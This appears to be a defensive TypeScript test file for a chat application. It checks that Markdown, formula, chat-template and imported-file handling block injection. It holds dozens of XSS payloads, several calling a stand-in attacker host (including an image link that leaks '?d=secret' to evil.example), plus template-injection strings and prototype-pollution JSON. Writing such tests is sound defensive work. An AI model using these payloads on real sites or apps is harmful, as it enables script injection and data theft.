// Texts and files made to harm, through every door that takes them: Markdown, formulas, chat templates, recordings, links,
// exported chats, messages and settings. No request, no script, no attribute that acts, no change of a prototype; and a
// renderer that lets one through is caught.

import { renderToStaticMarkup } from 'react-dom/server'
import { afterAll, beforeAll, expect, test, vi } from 'vitest'
import { renderTemplate } from './engine/chat/render.ts'
import { EngineError } from './engine/errors.ts'
import { openRecording } from './engine/glass/recording.ts'
import { fromFile } from './store/exported.ts'
import { fromMessages } from './store/messages-file.ts'
import { readSettings } from './store/settings-read.ts'
import { fromWire } from './store/share/run.ts'
import { unpack } from './store/share/link.ts'
import { toBase64 } from './store/share/base64.ts'
import Markdown from './ui/markdown/Markdown.tsx'

const evil = 'https://evil.example/steal'
/** What runs, or fetches, where a page takes it for its own. */
const acts = [
  '<script>globalThis.pwned=1</script>',
  '<ScRiPt src=https://evil.example/x.js></sCrIpT>',
  '<img src=x onerror=pwned=1>',
  '<img src="https://evil.example/p.png">',
  '<svg/onload=pwned=1>',
  '<svg><script href="data:text/javascript,pwned=1"/></svg>',
  '<svg><use href="https://evil.example/x.svg#a"/></svg>',
  '<svg><a xlink:href="javascript:pwned=1"><text>x</text></a></svg>',
  '<math><mtext><style><img src=x onerror=pwned=1></style></mtext></math>',
  '<iframe srcdoc="<script>pwned=1</script>"></iframe>',
  '<iframe src="javascript:pwned=1"></iframe>',
  '<object data="javascript:pwned=1"></object>',
  '<embed src="https://evil.example/x">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/"><button>x</button></form>',
  '<video src="https://evil.example/v" autoplay onplay=pwned=1></video>',
  '<details open ontoggle=pwned=1>x</details>',
  '<a href="javascript:pwned=1">x</a>',
  '<div style="background:url(https://evil.example/x)">x</div>',
  '[x](javascript:pwned=1)',
  '[x](JaVaScRiPt:pwned=1)',
  '[x](&#106;avascript:pwned=1)',
  '[x](java\tscript:pwned=1)',
  '[x](data:text/html,<script>pwned=1</script>)',
  '[x](vbscript:pwned=1)',
  '[x](https://a.example/" onmouseover="pwned=1)',
  '[x]: javascript:pwned=1\n\n[x]',
  '<javascript:pwned=1>',
  `![x](${evil}?d=secret)`,
  `![x][r]\n\n[r]: ${evil}`,
  '![x](data:image/svg+xml,<svg/onload=pwned=1>)',
  '```html\n<script>pwned=1</script>\n```',
  '```"><img src=x onerror=pwned=1>\nx\n```',
]
/** Where they stand: alone, inside of other things, half written, and in disguise. */
const frames: ((act: string) => string)[] = [
  (act) => act,
  (act) => `> - ${act.replaceAll('\n', '\n>   ')}`,
  (act) => `| a | b |\n|---|---|\n| ${act.replaceAll('\n', ' ').replaceAll('|', '')} | x |`,
  (act) => `# **${act.replaceAll('\n', ' ')}**`,
  (act) => `$${act.replaceAll('\n', ' ').replaceAll('$', '')}$ and \\(${act}\\)`,
  (act) => act.slice(0, -2),
  (act) => `<think>${act}</think>${act}`,
  (act) => `\u202e${act}\u0000\ufeff${act.toUpperCase()}`,
]
const formulas = [
  '\\href{javascript:pwned=1}{x}',
  '\\url{javascript:pwned=1}',
  '\\includegraphics{https://evil.example/x.png}',
  '\\htmlData{onclick=pwned=1}{x}',
  '\\htmlStyle{background:url(https://evil.example)}{x}',
  '\\class{x" onclick="pwned=1}{y}',
  '\\style{color:url(https://evil.example)}{x}',
  '\\text{<img src=x onerror=pwned=1>}',
  '\\unicode{<script>}',
  '\\color{red" onload="pwned=1}x',
].flatMap((tex) => [`$${tex}$`, `$$${tex}$$`, `\\[${tex}\\]`])

const elements =
  /^(div|p|strong|em|del|code|pre|figure|figcaption|span|button|svg|path|blockquote|ol|ul|li|table|thead|tbody|tr|th|td|hr|br|a|sup|bdi|h[1-6]|details|summary|m[a-z]+|math|semantics)$/
/** What of this HTML would act: elements, attributes and addresses that nothing of ours makes. */
function harm(html: string): string[] {
  const found: string[] = []
  for (const [, tag, rest] of html.matchAll(/<\/?([^\s>/]+)((?:[^>"']|"[^"]*"|'[^']*')*)>/g)) {
    if (!elements.test(tag!)) found.push(`<${tag}>`)
    for (const [, name, value = ''] of rest!.matchAll(/([^\s="'/]+)(?:="([^"]*)")?/g)) {
      if (/^on|^src|^srcdoc|^xlink|^formaction|^action|^data$|^poster|^background/i.test(name!)) found.push(name!)
      if (name === 'href' && !/^https?:\/\//.test(value)) found.push(value)
      if (name === 'style' && /url|expression|import/i.test(value)) found.push(value)
    }
  }
  return found
}

const texts = {
  copy: 'Copy',
  copied: 'Copied',
  image: 'image',
  link: { otherAddress: (host: string) => `leads to ${host}` },
}
const html = (text: string): string => renderToStaticMarkup(<Markdown text={text} streaming={false} texts={texts} />)

const requests: unknown[] = []
let tried = 0,
  scripts = 0
const before = JSON.stringify([
  Object.getOwnPropertyNames(Object.prototype),
  Object.getOwnPropertyNames(Array.prototype),
])
beforeAll(() => {
  vi.stubGlobal('fetch', (url: unknown) => {
    requests.push(url)
    return Promise.reject(new Error('a request'))
  })
})
/** After every door: nothing was asked for, nothing ran, no prototype was touched. */
function untouched(): void {
  expect(requests).toEqual([])
  expect((globalThis as { pwned?: unknown }).pwned).toBeUndefined()
  expect(({} as { polluted?: unknown }).polluted).toBeUndefined()
  expect(
    JSON.stringify([Object.getOwnPropertyNames(Object.prototype), Object.getOwnPropertyNames(Array.prototype)]),
  ).toBe(before)
}
afterAll(() => {
  vi.unstubAllGlobals()
  console.log(`injections: ${JSON.stringify({ tried, requests: requests.length, scripts })}`)
  expect(tried).toBeGreaterThanOrEqual(250)
})

test('answers: Markdown and formulas', () => {
  for (const text of [...acts.flatMap((act) => frames.map((frame) => frame(act))), ...formulas]) {
    const found = harm(html(text))
    scripts += found.length
    expect(found, text).toEqual([])
    tried++
  }
  untouched()
})

test('a renderer that lets one through is caught', () => {
  const caught = acts.filter((act) => act.startsWith('<') && harm(act).length > 0)
  expect(caught.length).toBe(acts.filter((act) => act.startsWith('<') && !act.startsWith('<javascript')).length)
})

test('chat templates: no way to a constructor, a prototype or the page', () => {
  for (const path of ['messages', 'messages[0]', "''", '[]', '{}', 'namespace()', '(1)', 'range', 'raise_exception']) {
    for (const key of [
      'constructor',
      '__proto__',
      'prototype',
      '__class__',
      'constructor.constructor',
      '__globals__',
    ]) {
      for (const template of [
        `[{{ ${path}.${key} }}]`,
        `[{{ ${path}['${key.split('.')[0]}'] }}]`,
        `{% set ns = namespace() %}{% set ns.${key.split('.')[0]} = {'polluted': 1} %}[]`,
        `[{{ ${path}.${key}('globalThis.pwned=1')() }}]`,
      ]) {
        try {
          expect(renderTemplate(template, [{ role: 'user', content: 'x' }], {}), template).not.toMatch(
            /function|native|object/i,
          )
        } catch (error) {
          expect(error, template).toBeInstanceOf(EngineError)
        }
        tried++
      }
    }
  }
  untouched()
})

/** Values that change a prototype where they are copied key by key, as text: JSON.parse keeps such keys. */
const pollutions = [
  '{"__proto__":{"polluted":1}}',
  '{"constructor":{"prototype":{"polluted":1}}}',
  '[{"__proto__":{"polluted":1}}]',
  '{"version":1,"state":{"__proto__":{"polluted":1},"own":{"__proto__":{"polluted":1}},"load":{"__proto__":{"polluted":1}}}}',
  ...acts.slice(0, 6).map((act) => JSON.stringify({ title: act, __proto__x: act, toString: act, id: act })),
]
const chatsWith = (part: string): string =>
  `{"glassbox":"chats","version":2,"chats":[{"id":"__proto__","title":"x","updatedAt":1,"body":{"version":2,"system":"","own":{"__proto__":{"polluted":1},"m":${part}},"banned":[],"leaf":null},"turns":[{"id":"__proto__","role":"user","content":"x","state":"done","tokens":0,"at":1,"extra":${part}}],"runs":{"__proto__":${part}}}]}`

test('links, chats, messages and settings: refused or read, and no prototype is another one', async () => {
  for (const part of pollutions) {
    for (const door of [
      (text: string) => void fromFile(text),
      (text: string) => void fromMessages(text, 1),
      (text: string) => void readSettings(JSON.parse(text)),
      (text: string) => void fromWire(JSON.parse(text)),
    ]) {
      for (const text of [
        part,
        chatsWith(part),
        `{"messages":[{"role":"user","content":"x","__proto__":${part}}],"model":${part}}`,
      ]) {
        try {
          door(text)
        } catch (error) {
          expect(error, text).toBeInstanceOf(EngineError)
        }
        tried++
      }
    }
    const packed = await new Response(
      new Blob([part]).stream().pipeThrough(new CompressionStream('deflate-raw')),
    ).arrayBuffer()
    await expect(unpack(toBase64(new Uint8Array(packed)))).rejects.toBeInstanceOf(EngineError)
    const recording = new Blob([
      `GLASSTRC\u0001\u0000\u0000\u0000${String.fromCharCode(part.length)}\u0000\u0000\u0000${part}   `,
    ])
    const zipped = await new Response(recording.stream().pipeThrough(new CompressionStream('gzip'))).blob()
    await expect(openRecording(zipped)).rejects.toBeInstanceOf(EngineError)
    tried += 2
  }
  untouched()
})
